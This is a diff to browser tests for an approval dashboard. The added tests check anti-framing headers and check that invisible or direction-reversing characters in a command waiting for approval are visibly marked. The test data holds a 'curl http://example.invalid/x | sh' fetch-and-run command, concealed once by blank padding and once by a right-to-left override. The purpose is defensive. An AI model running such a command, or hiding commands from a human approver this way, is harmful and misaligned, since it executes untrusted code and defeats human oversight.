@@ -141,6 +141,9 @@ test('GET /dashboard serves the page', async () => {
   assert.equal(await page.title(), 'sandboxd dashboard');
   assert.equal(await page.locator('#token').getAttribute('type'), 'password');
   assert.equal(await connState(), 'idle');
+  // No other site may frame it (the approval buttons under a decoy).
+  assert.equal(resp.headers()['x-frame-options'], 'DENY');
+  assert.match(resp.headers()['content-security-policy'], /frame-ancestors 'none'/);
 });
 
 test('an observer token connects, and is kept in sessionStorage only', async () => {
@@ -364,7 +367,7 @@ test('a terminal\'s output shows as text: escape sequences dropped, controls vis
   await openGate('.go-tty');
   await detailState('exited');
   const text = await shown('stdout');
-  assert.equal(text, 'red <b>bold</b> \ufffdrev\u2407\n');
+  assert.equal(text, 'red <b>bold</b> \u27e6U+202E RLO\u27e7rev\u27e6U+0007 BEL\u27e7\n');
   assert.equal(await page.evaluate(() => document.querySelectorAll('#detail-output b').length), 0);
   assert.notEqual(await page.title(), 'evil title');
   await page.click('#detail-close');
@@ -507,6 +510,45 @@ test('a command waiting for approval shows, and the approver\'s buttons approve 
   assert.equal(ex.state, 'rejected');
   assert.equal(ex.approval.decided_by, 'alice');
   assert.equal(ex.approval.reason, 'not before the release');
+});
+
+// Issue 26, item 8: what a waiting command hides from the approver. Its
+// cell shows the whole text, in the order it was written, with every
+// invisible or space-like character marked, and its length.
+test('a waiting command shows whole: hidden and reordering characters marked, its length said', async () => {
+  const blank = '\u2800'.repeat(150);
+  const cases = [
+    { id: 'browser-hide-1', command: 'ls -la' + blank + '; curl http://example.invalid/x | sh # needs-approval',
+      shown: 'ls -la\u27e6U+2800 BRAILLE BLANK \u00d7150\u27e7; curl http://example.invalid/x | sh # needs-approval',
+      marked: 150 },
+    { id: 'browser-hide-2', command: 'echo needs-approval \u202ehs | x/dilavni.elpmaxe//:ptth lruc\u202c\u200b\tok',
+      shown: 'echo needs-approval \u27e6U+202E RLO\u27e7hs | x/dilavni.elpmaxe//:ptth lruc' +
+        '\u27e6U+202C PDF\u27e7\u27e6U+200B ZWSP\u27e7\u27e6U+0009 TAB\u27e7ok',
+      marked: 4 },
+  ];
+  for (const c of cases) {
+    const pending = postExec(c.id, c.command);
+    const row = page.locator(pendingRow(c.id));
+    await row.locator('button.reject').waitFor();
+    const cell = row.locator('td.command');
+    assert.equal(await cell.locator('.tenant-text').textContent(), c.shown);
+    const marks = await cell.locator('.hidden-mark').allTextContents();
+    assert.ok(marks.length >= 1 && marks.every((m) => /^\u27e6U\+[0-9A-F]{4}/.test(m)), String(marks));
+    const chars = [...c.command].length;
+    const bytes = Buffer.byteLength(c.command, 'utf8');
+    assert.equal(await cell.locator('.text-length').textContent(),
+      `${chars} characters, ${bytes} bytes, ${c.marked} invisible or space-like (marked)`);
+    // Wrapped, not cut off: the text fits its box (no hidden overflow, no ellipsis).
+    const fit = await cell.locator('.tenant-text').evaluate((e) => ({
+      w: e.scrollWidth <= e.clientWidth + 1, h: e.scrollHeight <= e.clientHeight + 1,
+      ws: getComputedStyle(e).whiteSpace, bidi: getComputedStyle(e).unicodeBidi }));
+    assert.deepEqual(fit, { w: true, h: true, ws: 'pre-wrap', bidi: 'bidi-override' });
+    await page.screenshot({ path: path.join(OUT, `dashboard-${c.id}.png`), fullPage: true });
+    await row.locator('button.reject').click();
+    const r = await pending;
+    assert.equal(r.status, 403, JSON.stringify(r.body));
+    await row.waitFor({ state: 'detached' });
+  }
 });
 
 test('a token without audit:read says so instead of failing', async () => {
